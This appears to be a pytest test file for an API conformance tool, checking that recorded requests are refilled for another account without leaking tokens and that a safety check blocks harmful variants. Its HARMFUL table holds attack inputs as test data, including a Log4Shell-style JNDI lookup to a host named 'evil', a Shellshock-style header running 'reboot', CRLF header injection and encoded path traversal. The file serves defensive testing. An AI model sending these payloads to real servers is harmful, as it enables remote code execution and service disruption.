"""Recording of a request, and filling it in for another target, another account and another batch."""

from __future__ import annotations

import json
import re
from contextlib import contextmanager
from dataclasses import replace
from typing import TYPE_CHECKING
from urllib.parse import quote, unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conformance.auth.authentication import Authentication, Token
from conformance.config.settings import Settings
from conformance.engine.run import Run
from conformance.errors import MissingInputError, SafetyError
from conformance.exchange.classification import BatchState
from conformance.exchange.exchange import Exchange, Request, TransportFailure
from conformance.exchange.redaction import Redactor
from conformance.exchange.tokens import near_misses, placeholder_token
from conformance.findings.fill import DRAWN_ID, instantiate, is_safe_to_send
from conformance.findings.placeholders import escape
from conformance.findings.record import Recorder
from conformance.mock.settings import EXPIRED_TOKEN, FOREIGN_TOKEN
from conformance.reports.model import Step
from conformance.requirements import strategies
from conformance.requirements.http.scenarios import ODD_HEADERS, ODD_IDS
from conformance.requirements.request.scenarios import BODIES, NEIGHBOURS, QUERIES, SPELLINGS
from conformance.selftest.support.judging import UUID
from conformance.spec import catalogue
from conformance.target.batches import SLASH
from conformance.target.connection import connect_dry_run

if TYPE_CHECKING:
    from collections.abc import Iterator

    from conformance.target.session import Session

TOKEN = "Token-that-nobody-else-has-0123"
ELSEWHERE = Settings(
    target="https://drs.example.invalid",
    project_id="0123456789abcdef0123456789abcdef",
    project_given=True,
    foreign_project_id="fedcba9876543210fedcba9876543210",
    login=Token(TOKEN),
    failed_jobs=("failed-batch",),
)
COMMIT = "/v5/{project}/batch-async-jobs/{batch}/commit"


@contextmanager
def opened(settings: Settings) -> Iterator[Session]:
    """Open a session of a dry run; it can create batches if no target is named."""
    with Run(settings, catalogue.load(), connect=connect_dry_run) as run:
        yield run.session


@pytest.fixture(scope="module")
def mock() -> Iterator[Session]:
    with opened(Settings()) as session:
        yield session


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Session]:
    with opened(ELSEWHERE) as session:
        yield session


def recorder(session: Session) -> Recorder:
    token = session.account.token
    return Recorder(catalogue.load(), Redactor(token, *near_misses(token)), (token,), session)


def recorded(session: Session, request: Request) -> Step:
    exchange = Exchange(1, "odd-ids", request, session.classify(request), TransportFailure("not-sent", ""))
    [step] = recorder(session).steps([exchange])
    return step


characters = st.characters(exclude_categories=["Cs"])
values = st.text(characters, max_size=20) | st.sampled_from(["{token}", "{{", "}", "{batch}", "{token-cut}"])
ids = strategies.batch_ids() | st.sampled_from(ODD_IDS) | st.sampled_from(["{batch}", "{project}", "{{}}"])


@st.composite
def requests(draw: st.DrawFn, session: Session) -> Request:
    """Draw a request that names a batch that does not exist, as odd as any that a scenario sends."""
    token = draw(
        st.sampled_from([session.account.token, *near_misses(session.account.token), "", None, "null", "{token}"])
    )
    projects = st.sampled_from(
        [session.account.project_id, session.account.foreign_project_id or "", "another{project}"]
    )
    built = session.commit(draw(ids), token=token, project_id=draw(projects), body=draw(st.binary(max_size=20)))
    headers = draw(st.lists(st.tuples(st.sampled_from(["X-Language", "Accept"]), values), max_size=2))
    query = draw(st.just("") | values.map(lambda text: "?" + quote(text, safe="{}")))
    method = draw(st.sampled_from(["POST", "GET"]))
    return replace(built, method=method, target=built.target + query, headers=(*built.headers, *headers))


@given(data=st.data())
def test_an_odd_request_is_restored_octet_by_octet(mock: Session, data: st.DataObject) -> None:
    request = data.draw(requests(mock))

    again = instantiate(recorded(mock, request), mock).request

    ordinary = re.compile(f"(?<=/){UUID}(?=/)")
    assert ordinary.sub("", again.target) == ordinary.sub("", request.target)
    assert replace(again, target="") == replace(request, target="")


@given(data=st.data())
def test_nothing_of_the_account_is_recorded(elsewhere: Session, data: st.DataObject) -> None:
    step = recorded(elsewhere, data.draw(requests(elsewhere)))

    text = json.dumps([step.target, step.headers, step.segment, step.body.decode("latin-1")])
    account = elsewhere.account
    assert not any(own in text for own in (account.token, account.project_id, account.foreign_project_id or ""))
    assert not Redactor(account.token, *near_misses(account.token)).finds(text)


@given(batch_id=ids)
def test_an_odd_id_cannot_name_a_batch_of_another_target(mock: Session, elsewhere: Session, batch_id: str) -> None:
    step = recorded(mock, mock.commit(batch_id))

    filled = instantiate(step, elsewhere)

    plain = DRAWN_ID.fullmatch(batch_id) is not None or batch_id in ODD_IDS
    assert is_safe_to_send(filled, elsewhere) is plain
    assert all(re.match(UUID, part) for part in SLASH.split(filled.batch_id))
    assert unquote(filled.request.target.split("/")[4]) == filled.batch_id
    assert batch_id in (filled.batch_id, re.sub(f"{UUID}-", "", filled.batch_id)) or re.fullmatch(UUID, batch_id)


@given(batch_id=ids)
def test_the_unique_prefix_of_an_odd_id_is_not_recorded(mock: Session, elsewhere: Session, batch_id: str) -> None:
    step = recorded(elsewhere, elsewhere.commit(elsewhere.batches.invented(batch_id)))

    assert instantiate(step, mock).batch_id == batch_id


def test_each_near_miss_is_recorded_by_name_and_made_of_the_token_of_the_other_account(
    mock: Session, elsewhere: Session
) -> None:
    batch_id = elsewhere.batches.unknown()
    built = [elsewhere.commit(batch_id, token=token) for token in (TOKEN, *near_misses(TOKEN), "null")]

    again = [instantiate(recorded(elsewhere, request), mock).request.values("X-Auth-Token")[0] for request in built]

    assert again == [mock.account.token, *near_misses(mock.account.token), "null"]


def test_only_the_mock_provides_an_expired_token(mock: Session, elsewhere: Session) -> None:
    step = recorded(mock, mock.commit(mock.batches.unknown(), token=EXPIRED_TOKEN))

    assert step.headers[-1] == ("X-Auth-Token", "{expired-token}")
    assert instantiate(step, mock).request.values("X-Auth-Token") == (EXPIRED_TOKEN,)
    with pytest.raises(MissingInputError, match="expired"):
        instantiate(step, elsewhere)


def test_a_token_of_the_foreign_project_needs_its_option(mock: Session, elsewhere: Session) -> None:
    foreign = mock.account.foreign_project_id or ""
    step = recorded(mock, mock.commit(mock.batches.unknown(), token=FOREIGN_TOKEN, project_id=foreign))

    assert "{foreign-project}" in step.target
    assert step.headers[-1] == ("X-Auth-Token", "{foreign-token}")
    with pytest.raises(MissingInputError, match="--foreign-token"):
        instantiate(step, elsewhere)
    with opened(replace(ELSEWHERE, foreign_token="Token-of-theirs")) as session:
        filled = instantiate(step, session)
        assert filled.request.values("X-Auth-Token") == ("Token-of-theirs",)
        assert is_safe_to_send(filled, session)


@pytest.mark.parametrize(
    ("name", "settings"),
    [
        ("foreign-token", replace(ELSEWHERE, foreign_token="Token-that-is-another-one")),
        ("expired-token", replace(ELSEWHERE, expired_token="Token-that-is-another-one")),
    ],
)
def test_a_further_token_of_the_user_is_not_recorded_as_the_own_one(name: str, settings: Settings) -> None:
    with opened(settings) as session:
        request = session.commit(session.batches.unknown(), token="Token-that-is-another-one")
        exchange = Exchange(1, "odd-ids", request, session.classify(request), TransportFailure("not-sent", ""))
        secrets = settings.secrets
        [step] = Recorder(catalogue.load(), Redactor(*secrets), secrets, session).steps([exchange])

    assert step.headers[-1] == ("X-Auth-Token", f"{{{name}}}")


def test_no_batch_of_the_foreign_project_is_sent_with_its_token() -> None:
    token, batch_id = "Token-of-theirs", "8ad3a9bb-6b5d-4b5c-8f0d-3f0a4f3c9a10"
    with opened(replace(ELSEWHERE, foreign_token=token, foreign_jobs=(batch_id,))) as session:
        recorded_step = step(
            target=COMMIT.replace("{project}", "{foreign-project}"),
            headers=(("X-Auth-Token", "{foreign-token}"), ("Content-Type", "application/json")),
            batch="foreign",
        )
        filled = instantiate(recorded_step, session)

        assert filled.batch_id == batch_id
        assert not is_safe_to_send(filled, session)
        for named in (batch_id, batch_id.upper(), batch_id.replace("-", "")):
            for project_id in (session.account.project_id, session.account.foreign_project_id or ""):
                with pytest.raises(SafetyError, match="with the token of that project"):
                    session.send(session.commit(named, token=token, project_id=project_id))


def test_a_request_with_a_secret_elsewhere_is_not_recorded(elsewhere: Session) -> None:
    request = elsewhere.commit(elsewhere.batches.unknown(), body=b"x" + TOKEN[3:].encode())
    exchange = Exchange(1, "odd-ids", request, elsewhere.classify(request), TransportFailure("not-sent", ""))

    assert recorder(elsewhere).steps([exchange]) == ()


@pytest.mark.parametrize("state", [BatchState.READY, BatchState.VALIDATING, BatchState.FAILED, BatchState.COMMITTED])
def test_a_batch_is_replaced_by_one_in_the_same_state(mock: Session, state: BatchState) -> None:
    for batch_id in (
        mock.batches.allocate(state, lambda _: str(mock.batches.unknown())),
        mock.batches.allocate(state, lambda uuid: f"{uuid[:8]}-批次"),
    ):
        step = recorded(mock, mock.commit(batch_id))
        filled = instantiate(step, mock)

        assert step.batch == state.value
        assert filled.batch_id != batch_id
        assert mock.classify(filled.request).batch is state
        assert filled.batch_id[8:] == batch_id[8:] or step.segment is None


def test_a_batch_of_a_foreign_project_is_replaced_by_another_one(mock: Session, elsewhere: Session) -> None:
    foreign = mock.account.foreign_project_id or ""
    for request in (mock.commit(mock.batches.foreign()), mock.commit(mock.batches.foreign(), project_id=foreign)):
        step = recorded(mock, request)
        again = instantiate(step, mock).request

        assert step.batch == "foreign"
        assert (mock.classify(again).batch, mock.classify(again).project) == (
            mock.classify(request).batch,
            mock.classify(request).project,
        )
        with pytest.raises(MissingInputError, match="--foreign-job"):
            instantiate(step, elsewhere)


def step(**changed: object) -> Step:
    return replace(Step("POST", COMMIT, (), b"", "unknown"), **changed)  # type: ignore[arg-type]


def test_a_missing_input_is_reported_with_its_option(elsewhere: Session) -> None:
    assert instantiate(step(batch="failed"), elsewhere).batch_id == "failed-batch"
    for state, option in (
        ("ready", "--ready-job"),
        ("validating", "--validating-job"),
        ("committed", "--committed-job"),
    ):
        with pytest.raises(MissingInputError, match=option):
            instantiate(step(batch=state), elsewhere)
    with pytest.raises(MissingInputError, match="IDs like this"):
        instantiate(step(batch="failed", segment="odd"), elsewhere)
    with (
        opened(replace(ELSEWHERE, foreign_project_id=None)) as session,
        pytest.raises(MissingInputError, match="--foreign-project-id"),
    ):
        instantiate(step(target=COMMIT.replace("{project}", "{foreign-project}")), session)


def test_an_access_key_has_no_near_misses() -> None:
    with opened(ELSEWHERE) as session:
        session.account = replace(session.account, authentication=Authentication(placeholder_token("SK")))
        assert instantiate(step(headers=(("X-Auth-Token", "{token}"),)), session).request.headers
        with pytest.raises(MissingInputError, match="access key"):
            instantiate(step(headers=(("X-Auth-Token", "{token-cut}"),)), session)


def test_a_validated_batch_is_used_once() -> None:
    with opened(replace(ELSEWHERE, profile="full", ready_jobs=("one",))) as session:
        assert instantiate(step(batch="ready"), session).batch_id == "one"
        with pytest.raises(MissingInputError, match="--ready-job"):
            instantiate(step(batch="ready"), session)
    with (
        opened(replace(ELSEWHERE, profile="safe", ready_jobs=("one",))) as session,
        pytest.raises(MissingInputError, match="full"),
    ):
        instantiate(step(batch="ready"), session)


HARMFUL: dict[str, dict[str, object]] = {
    "a batch that the file names": {"target": "/v5/{project}/batch-async-jobs/b7e40f72/commit", "batch": ""},
    "another batch after it": {"target": "/v5/{project}/batch-async-jobs/{batch}%2f..%2fb7e40f72/commit"},
    "a path that leaves it": {"target": "/v5/{project}/batch-async-jobs/{batch}/../b7e40f72/commit"},
    "another path in the project": {"target": "/v5/x%2Fbatch-async-jobs%2Fb7e40f72%3F/batch-async-jobs/{batch}/commit"},
    "another method": {"method": "DELETE"},
    "another path": {"target": "/v5/{project}/jobs/{batch}"},
    "a header that names the path": {"headers": (("X-Original-URL", "/v5/p/batch-async-jobs/b7e40f72/commit"),)},
    "a header that names the method": {"headers": (("X-HTTP-Method-Override", "DELETE"),)},
    "a query that names a batch": {"target": f"{COMMIT}?async_job_id=b7e40f72"},
    "a query of another kind": {"target": f"{COMMIT}?action=commit-all"},
    "a read with a query": {"method": "GET", "target": f"{COMMIT}?async_job_id=b7e40f72"},
    "a body that names a batch": {"body": b'{"async_job_id": "b7e40f72"}'},
    "a body of text": {"body": b"b7e40f72"},
    "a body longer than the suite's": {"body": b'{"jobs": []} '},
    "a read with a body": {"method": "GET", "body": b'{"jobs": ["b7e40f72"]}'},
    "parameters in the path": {"segment": ";async_job_id=b7e40f72"},
    "a query in the path": {"segment": "%3Fasync_job_id=b7e40f72"},
    "a query in the path, encoded twice": {"segment": "%253Fasync_job_id%253Db7e40f72"},
    "another path to read": {"method": "GET", "target": "/v5/{project}/batch-async-jobs"},
    "a path of a mock": {"method": "GET", "target": "/_mock/batches", "batch": ""},
    "a batch behind a question mark": {"segment": "x%3Fb7e40f72"},
    "a batch behind a comma": {"segment": "x,b7e40f72"},
    "a batch on another line": {"segment": "x%0Ab7e40f72"},
    "a slash encoded thrice": {"segment": "%25252fb7e40f72"},
    "an endless ID": {"segment": "x" * 60_000},
    "a header of another purpose": {"headers": (("User-Agent", "${{jndi:ldap://evil/x}}"),)},
    "a language of another purpose": {"headers": (("X-Language", "() {{ :;}}; reboot"),)},
    "a header twice": {"headers": (("Content-Type", "application/json"), ("Content-Type", "text/plain"))},
    "another value of an odd header": {"headers": (("X-Forwarded-For", "b7e40f72"),)},
    "a token with a space": {"headers": (("X-Auth-Token", "b7e40f72 x"),)},
    "a token on two lines": {"headers": (("X-Auth-Token", "b7e40f72\r\nX-Job: b7e40f72"),)},
    "a token that is not ASCII": {"headers": (("X-Auth-Token", "b7e40f72\xe9"),)},
    "other credentials": {"headers": (("Authorization", "Bearer b7e40f72"),)},
    "a batch to read": {"method": "GET", "target": "/v5/{project}/batch-async-jobs/b7e40f72/commit", "batch": ""},
}  # fmt: skip


@pytest.mark.parametrize("profile", ["safe", "full"])
@pytest.mark.parametrize("case", HARMFUL)
def test_a_harmful_request_is_not_safe_to_send(case: str, profile: str, mock: Session) -> None:
    with opened(replace(ELSEWHERE, profile=profile, ready_jobs=("one",))) as session:  # type: ignore[arg-type]
        assert not is_safe_to_send(instantiate(step(**HARMFUL[case]), session), session)
        assert is_safe_to_send(instantiate(step(), session), session)
        assert is_safe_to_send(instantiate(step(method="GET"), session), session)

    assert is_safe_to_send(instantiate(step(**HARMFUL[case]), mock), mock)


@pytest.mark.parametrize("query", QUERIES)
@pytest.mark.parametrize("body", [*BODIES, b"", b"x", b'{"jo'])
def test_a_query_and_a_body_of_the_suite_are_safe_to_send(query: str, body: bytes, elsewhere: Session) -> None:
    assert is_safe_to_send(instantiate(step(target=f"{COMMIT}?{query}", body=body), elsewhere), elsewhere)


@pytest.mark.parametrize(("name", "value"), ODD_HEADERS)
def test_an_odd_header_of_the_suite_is_safe_to_send(name: str, value: str, elsewhere: Session) -> None:
    filled = instantiate(step(headers=((name, "" if name.lower() == "x-auth-token" else escape(value)),)), elsewhere)

    assert is_safe_to_send(filled, elsewhere)


def test_a_batch_that_calls_have_made_uncertain_is_replaced_by_a_ready_one(mock: Session) -> None:
    filled = instantiate(step(batch="uncertain"), mock)

    assert mock.classify(filled.request).batch is BatchState.READY


def test_nothing_is_used_up_to_see_whether_a_request_is_safe() -> None:
    with opened(replace(ELSEWHERE, profile="full", ready_jobs=("one",))) as session:
        assert not is_safe_to_send(
            instantiate(step(batch="ready", method="PUT", target="/x"), session, allocate=False), session
        )
        assert instantiate(step(batch="ready"), session).batch_id == "one"


@pytest.mark.parametrize("spelling", ["victim", "%76ictim", "v%69%63tim", "\u4e00", "%E4%B8%80"])
def test_a_project_of_somebody_else_is_replaced_by_a_random_one(spelling: str, elsewhere: Session) -> None:
    filled = instantiate(step(target=COMMIT.replace("{project}", spelling)), elsewhere)

    assert re.fullmatch("[0-9a-f]{32}", elsewhere.classify(filled.request).project_id)
    assert spelling not in filled.request.target
    assert is_safe_to_send(filled, elsewhere)


@pytest.mark.parametrize(
    "spelling", ["%2576ictim", "victim%20", "victim;x", "./victim", "%2e/victim", "victim/{project}"]
)
@pytest.mark.parametrize("state", ["unknown", "ready"])
def test_a_finding_does_not_choose_the_project(spelling: str, state: str) -> None:
    with opened(replace(ELSEWHERE, profile="full", ready_jobs=("one",))) as session:
        found = step(target=COMMIT.replace("{project}", spelling), batch=state)

        assert not is_safe_to_send(instantiate(found, session, allocate=False), session)


@pytest.mark.parametrize("change", [*NEIGHBOURS, *SPELLINGS])
def test_each_path_of_the_suite_is_restored(change: tuple[str, str], elsewhere: Session) -> None:
    filled = instantiate(step(method="GET", target=COMMIT.replace(*change)), elsewhere)

    assert filled.request.target.split("/").count(ELSEWHERE.project_id) == 1
    assert is_safe_to_send(filled, elsewhere)
